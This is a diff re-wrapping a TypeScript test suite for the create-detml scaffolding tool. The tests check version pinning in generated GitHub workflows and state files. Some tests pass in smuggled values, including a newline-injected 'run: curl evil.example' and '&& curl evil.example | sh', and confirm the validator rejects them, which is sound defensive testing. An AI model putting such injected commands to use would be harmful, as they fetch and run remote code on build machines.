@@ -22,7 +22,9 @@ const pins = (files: { path: string; contents: Buffer }[]) =>
 
 describe('the pinned create-detml version', () => {
   it('is the package version, taken from package.json in one place', () => {
-    expect(GENERATOR_VERSION).toBe((JSON.parse(readFileSync(join(ROOT, 'package.json'), 'utf8')) as { version: string }).version);
+    expect(GENERATOR_VERSION).toBe(
+      (JSON.parse(readFileSync(join(ROOT, 'package.json'), 'utf8')) as { version: string }).version,
+    );
   });
 
   it.each(availableTemplates())('%s: every workflow pin is the render input, nothing is hard-coded', (id) => {
@@ -34,22 +36,38 @@ describe('the pinned create-detml version', () => {
 
   it('create pins the running package version and records it in the state file', async () => {
     const cwd = tempDir();
-    const result = await runCli(['app', '--template', 'vllm', '--yes', '--no-git', '--no-install'], { cwd, timeoutMs: 60_000 });
+    const result = await runCli(['app', '--template', 'vllm', '--yes', '--no-git', '--no-install'], {
+      cwd,
+      timeoutMs: 60_000,
+    });
     expect(result.stderr).toBe('');
     expect(result.code).toBe(0);
     const read = (p: string) => readFileSync(join(cwd, 'app', p));
-    expect(pins(['.github/workflows/ci.yml', '.github/workflows/detml-sync.yml'].map((path) => ({ path, contents: read(path) })))).toEqual([
+    expect(
+      pins(
+        ['.github/workflows/ci.yml', '.github/workflows/detml-sync.yml'].map((path) => ({
+          path,
+          contents: read(path),
+        })),
+      ),
+    ).toEqual([
       `.github/workflows/ci.yml ${GENERATOR_VERSION}`,
       `.github/workflows/detml-sync.yml ${GENERATOR_VERSION}`,
     ]);
     expect(parseState(read('.detml/state.json').toString('utf8'), 'state').generator.version).toBe(GENERATOR_VERSION);
   });
 
-  it('sync re-renders the old version with the recorded generator version and the new one with the target\'s', () => {
+  it("sync re-renders the old version with the recorded generator version and the new one with the target's", () => {
     const template = resolveTemplate('onnx');
     const answers = resolveAnswers(template.manifest, {});
     const created = renderTemplate(template.dir, answers, template.manifest, { generatorVersion: '0.5.0' });
-    const state = { schema: 1, generator: { name: 'create-detml', version: '0.5.0' }, template: { id: 'onnx', version: template.manifest.version }, answers, files: {} } as DetmlState;
+    const state = {
+      schema: 1,
+      generator: { name: 'create-detml', version: '0.5.0' },
+      template: { id: 'onnx', version: template.manifest.version },
+      answers,
+      files: {},
+    } as DetmlState;
     const pair = renderPair(state, template, template, { seed: 99 }, '0.6.0');
     expect(pair.old).toEqual(created); // byte for byte what create wrote, so sync sees no template change there
     expect(pins(pair.next)).toEqual(['.github/workflows/ci.yml 0.6.0', '.github/workflows/detml-sync.yml 0.6.0']);
@@ -57,14 +75,25 @@ describe('the pinned create-detml version', () => {
 
   it('a generator version that is not a plain version never reaches a rendered workflow', () => {
     const { dir, manifest } = resolveTemplate('onnx');
-    expect(() => renderTemplate(dir, resolveAnswers(manifest, {}), manifest, { generatorVersion: '1.0.0\n        run: curl evil.example' })).toThrow(
-      'Generator version "1.0.0\\n        run: curl evil.example" is not a semver version.',
-    );
+    expect(() =>
+      renderTemplate(dir, resolveAnswers(manifest, {}), manifest, {
+        generatorVersion: '1.0.0\n        run: curl evil.example',
+      }),
+    ).toThrow('Generator version "1.0.0\\n        run: curl evil.example" is not a semver version.');
   });
 
   it('a state file whose generator version is not a plain version is refused before it reaches a workflow or npm', () => {
-    const state = (version: string) => JSON.stringify({ schema: 1, generator: { name: 'create-detml', version }, template: { id: 'onnx', version: '1.3.0' }, answers: {}, files: {} });
-    expect(() => parseState(state('0.1.0 && curl evil.example | sh'), 's.json')).toThrow('s.json is corrupt: $.generator.version: must be a semver version like 1.2.3');
+    const state = (version: string) =>
+      JSON.stringify({
+        schema: 1,
+        generator: { name: 'create-detml', version },
+        template: { id: 'onnx', version: '1.3.0' },
+        answers: {},
+        files: {},
+      });
+    expect(() => parseState(state('0.1.0 && curl evil.example | sh'), 's.json')).toThrow(
+      's.json is corrupt: $.generator.version: must be a semver version like 1.2.3',
+    );
     expect(() => parseState(state('file:../evil'), 's.json')).toThrow(/\$.generator.version: must be a semver/);
     expect(parseState(state('1.0.0-rc.1'), 's.json').generator.version).toBe('1.0.0-rc.1');
   });
